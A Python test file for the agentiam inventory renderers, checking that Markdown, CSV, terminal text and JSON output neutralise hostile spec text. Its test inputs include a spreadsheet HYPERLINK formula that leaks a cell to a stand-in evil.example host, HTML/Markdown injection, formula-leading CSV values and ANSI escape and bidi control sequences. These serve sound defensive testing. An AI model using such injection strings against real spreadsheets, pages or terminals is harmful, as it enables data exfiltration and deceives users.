"""What readers get: the Markdown page (golden file, and as GitHub renders it with hostile spec text), CSV a
spreadsheet cannot execute, terminal text that never cuts a name or an ARN, stable JSON.

Regenerate the golden file after an intended change: AGENTIAM_REGEN_GOLDEN=1 python -m pytest tests/inventory
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import shutil
from pathlib import Path

import pytest

from agentiam.inventory.build import compile_inventory
from agentiam.inventory.model import Inventory
from agentiam.render.escape import csv_cell
from agentiam.render.inventory_csv import COLUMNS, render_csv
from agentiam.render.inventory_json import render_json
from agentiam.render.inventory_markdown import render_markdown
from agentiam.render import inventory_text
from agentiam.render.inventory_text import render_text
from tests.inventory.conftest import REPO, TODAY
from tests.render.github_markdown import render

GOLDEN = REPO / "tests" / "fixtures" / "inventory" / "inventory.md"
PAYMENT = "billing/payment-gateway-sync.yaml"
HOSTILE = ('=HYPERLINK("https://evil.example/?"&A1) </details><h2>no risk</h2><!-- @security-team #1 '
           '[x](https://evil.example) ![i](https://evil.example/i.png) | `code` *em* www.evil.example')


def test_markdown_page_matches_the_golden_file(bundled: Inventory) -> None:
    page = render_markdown(bundled)
    if os.environ.get("AGENTIAM_REGEN_GOLDEN"):
        GOLDEN.write_text(page, encoding="utf-8")
    assert page == GOLDEN.read_text(encoding="utf-8")


def _with_contact_and_purpose(tmp_path: Path, text: str) -> Inventory:
    specs, stacks = tmp_path / "agent_specs", tmp_path / "stacks"
    shutil.copytree(REPO / "agent_specs", specs)
    shutil.copytree(REPO / "stacks", stacks)
    path = specs / PAYMENT
    quoted = json.dumps(text)  # a YAML double-quoted scalar
    path.write_text(path.read_text().replace('contact: "#billing-platform-oncall"', f"contact: {quoted}")
                    .replace("purpose: create and confirm payouts", f"purpose: {quoted}"))
    inventory, _ = compile_inventory(specs, stacks, ["prod"], TODAY)
    return inventory


def test_spec_text_adds_nothing_to_the_page_as_github_renders_it(tmp_path: Path) -> None:
    hostile = render(render_markdown(_with_contact_and_purpose(tmp_path / "a", HOSTILE)))
    harmless = render(render_markdown(_with_contact_and_purpose(tmp_path / "b", "plainword")))
    assert hostile.tags == harmless.tags  # same tables, rows, cells, headings: nothing opened or closed
    assert hostile.comments == () and hostile.links == ()
    assert hostile.prose == harmless.prose  # no text outside code where GitHub would find mentions or references


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    text = render_csv(_with_contact_and_purpose(tmp_path, HOSTILE))
    rows = list(csv.DictReader(io.StringIO(text)))
    payment = next(r for r in rows if r["agent"] == "payment-gateway-sync")
    assert payment["contact"] == "'" + HOSTILE
    for row in rows:
        assert not any(value[:1] in ("=", "+", "-", "@") for value in row.values()), row


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("  =x", "'  =x"),
    ("\uff1dx", "'\uff1dx"), ("\t=x", "\\t=x"), ("\r=x", "\\r=x"), ("a=b", "a=b"), ("#chan", "#chan"),
    ("line\nbreak", "line\\nbreak"),
])
def test_csv_cell(value: str, cell: str) -> None:
    assert csv_cell(value) == cell


def test_csv_has_one_row_per_entry_with_every_column(bundled: Inventory) -> None:
    rows = list(csv.reader(io.StringIO(render_csv(bundled))))
    assert tuple(rows[0]) == COLUMNS
    assert [(r[0], r[1]) for r in rows[1:]] == [(e.agent, e.environment) for e in bundled.entries]
    assert all(len(r) == len(COLUMNS) for r in rows)


def test_terminal_text_never_cuts_a_name_or_an_arn(bundled: Inventory) -> None:
    narrow = render_text(bundled, width=40)
    assert "…" not in narrow
    for entry in bundled.entries:
        assert f"{entry.agent} in {entry.environment}: blast radius {entry.blast.tier.value}" in narrow
        for grant in entry.aws:
            for resource in grant.resources:
                assert resource in narrow
    wide = render_text(bundled, width=250)
    table = wide.split("\n\n")[0]
    for entry in bundled.entries:
        assert f"│ {entry.agent} " in table


def test_a_large_fleet_gets_aligned_columns_never_cut(bundled: Inventory, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(inventory_text, "RICH_ROWS", 3)
    lines = render_text(bundled, width=40).split("\n\n")[0].splitlines()
    assert lines[0] == "agentiam inventory of dev, prod, staging as of 2026-12-01: 24 agent identities"
    assert lines[1].split() == ["agent", "env", "function", "status", "team", "tier", "expires", "why"]
    assert len(lines) == 2 + len(bundled.entries)
    for line, entry in zip(lines[2:], bundled.entries, strict=True):
        assert line.startswith(entry.agent + " ") and f" {entry.owner_team} " in line
    assert len({line.index(" dev ") if " dev " in line else None for line in lines[2:]} - {None}) == 1  # aligned


def test_terminal_text_shows_control_characters_as_escapes(bundled: Inventory) -> None:
    # Specs refuse them (SPEC003); the writer escapes them whatever reaches it.
    entry = dataclasses.replace(bundled.entries[0], contact="\x1b[2J\x1b[31mred\nfake line\u202e")
    text = render_text(dataclasses.replace(bundled, entries=(entry,)), width=120)
    assert "\x1b" not in text and "\u202e" not in text
    assert "contact \\x1b[2J\\x1b[31mred\\nfake line\\u202e)" in text


def test_json_is_stable_and_complete(bundled: Inventory) -> None:
    text = render_json(bundled)
    assert text == render_json(bundled)
    data = json.loads(text)
    assert data["format"] == 1 and data["today"] == TODAY.isoformat()
    assert sum(data["tiers"].values()) == len(data["entries"]) == len(bundled.entries)
    entry = data["entries"][0]
    assert {"agent", "environment", "credentials", "aws", "databases", "vault", "egress", "blast", "expired",
            "deployed_in", "shared_with"} <= set(entry)
    assert entry["blast"]["reasons"][0]["rule"] == "destructive"
